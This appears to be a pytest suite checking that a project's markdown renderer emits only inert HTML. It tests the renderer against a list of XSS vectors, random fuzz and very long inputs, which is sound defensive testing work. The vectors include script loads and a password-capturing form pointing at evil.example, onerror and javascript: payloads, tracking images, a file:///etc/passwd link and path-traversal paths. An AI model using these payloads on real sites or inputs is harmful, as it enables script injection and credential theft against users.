"""Markdown can do no harm, whoever wrote it (battery E3). Vectors after the OWASP cheat sheet's kinds."""

import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from heritage.model.errors import InputError
from heritage.text.markdown import plain, references, render

ELEMENTS = {"a", "blockquote", "br", "code", "em", "hr", "img", "li", "ol", "p", "pre", "strong", "ul"}
ELEMENTS |= {f"h{n}" for n in range(1, 7)}

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//`>",
    "<svg onload=alert(1)><use href=data:image/svg+xml;base64,PHN2Zz4=>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x id=release name=getElementById>clobber</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](https:evil.example)",
    "[x](https://user:secret@evil.example/)",
    "[x](http://evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: //evil.example/x",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](http://evil.example/track.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](media/../../secret.png)",
    "![x](media/%2e%2e/%2e%2e/secret.png)",
    "![x](media\\..\\secret.png)",
    "![x](/media/a.png)",
    "![x](media//evil.example/../../x.png)",
    "![x](media/a.svg)",
    '![x](media/a.png "t\\" onerror=alert(1) x=\\"")',
    '[x](https://a.example "t\\" onmouseover=alert(1)")',
    "`<img src=x onerror=alert(1)>`",
    "```<script>\nalert(1)\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "a\u2028<script>b",
    "<a\x00href=javascript:alert(1)>",
]


class Inspector(HTMLParser):
    """Raises where HTML holds anything but inert elements, https links and pictures of the site."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        for name, value in attrs:
            value = value or ""
            if (tag, name) == ("a", "href"):
                assert value.lower().startswith(("https://", "mailto:", "#")), value
                assert "@" not in value.removeprefix("mailto:").partition("?")[0] or value.startswith(
                    "mailto:"
                )
            elif (tag, name) == ("img", "src"):
                assert value.startswith("media/"), value
                assert ".." not in value.lower().replace("%2e", "."), value
            else:
                assert (tag, name) in {
                    ("a", "rel"),
                    ("a", "title"),
                    ("img", "alt"),
                    ("img", "title"),
                    ("ol", "start"),
                }, (tag, name)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def inspect(html: str) -> None:
    """Assert that HTML is inert."""
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "frame", ["{}", "# {}", "> - {}", "**{}**", "| {} |", "x {} y [z](https://ok.example) {}"]
)
def test_vectors_are_inert(vector: str, frame: str) -> None:
    inspect(render(frame.replace("{}", vector)))


@given(
    st.lists(
        st.sampled_from([*VECTORS, "\n", "\n\n", "> ", "`", "[", "](", ")", "<", ">", '"', "&", "*", "\\"]),
        max_size=8,
    )
)
def test_any_mixture_of_vectors_is_inert(parts: list[str]) -> None:
    inspect(render("".join(parts)))


@given(st.text(max_size=200))
def test_any_text_is_inert(text: str) -> None:
    inspect(render(text))


def test_the_inspector_trips() -> None:
    for html in (
        "<script>",
        "<img src=x>",
        "<a href='http://a'>",
        "<p style='a'>",
        "<!--a-->",
        "<img src='media/../a.png'>",
    ):
        with pytest.raises(AssertionError):
            inspect(html)


@pytest.mark.parametrize(
    "text",
    [
        *(mark * 200_000 for mark in "[*_`<&!>#=~-\\("),
        *(mark * 5_000 for mark in "[*_`<&!\\"),
        "> " * 2_400,
        "![" * 2_500,
        "[](" * 1_600,
        "**_" * 1_600,
        "- a\n" * 4_999,
        "> a\n\n" * 2_400,
        "[a](" + "(" * 190_000,
        "\n".join(">" * 40 + "a" for _ in range(4_000)),
        "".join("`" * n + " " for n in range(95)),
    ],
)
def test_hostile_length_ends_soon(text: str) -> None:
    began = time.process_time()
    with suppress(InputError):  # beyond a ceiling, which is an end too
        assert len(render(text)) < 1_000_000
    assert time.process_time() - began < 1.0


def test_what_markdown_is_for() -> None:
    text = (
        "Built in **1833** by [Minh Mạng](https://vi.wikipedia.org/wiki/Minh_Mạng).\n\n"
        "![Gate](media/gate.jpg)\n\n1. one\n"
    )

    assert render(text) == (
        "<p>Built in <strong>1833</strong> by "
        '<a href="https://vi.wikipedia.org/wiki/Minh_M%E1%BA%A1ng" rel="noopener noreferrer">'
        "Minh Mạng</a>.</p>\n"
        '<p><img src="media/gate.jpg" alt="Gate"></p>\n<ol>\n<li>one</li>\n</ol>\n'
    )


def test_plain_words_have_no_markup() -> None:
    text = (
        "# The *gate*\n\nBuilt in **1833**\nby [Minh Mạng](https://a.example). ![a `door`](media/a.png)\n\n"
        "- one\n- two\n\n    code\n"
    )

    assert plain(text) == "The gate\nBuilt in 1833 by Minh Mạng. a door\none\ntwo\ncode"


def test_references_name_what_is_left_out_with_its_line() -> None:
    text = (
        "one\n[two](http://a.example)\n\n![three](media/ả%20b.png)\n\n> - x\n>   ![four](//a.example/b.png)\n"
    )

    assert [(r.line, r.kind, r.address, r.kept) for r in references(text)] == [
        (2, "link", "http://a.example", False),
        (4, "picture", "media/ả b.png", True),
        (7, "picture", "//a.example/b.png", False),
    ]


def test_a_rule_below_a_sentence_makes_no_heading() -> None:
    assert render("words\n---\n") == "<p>words</p>\n<hr>\n"
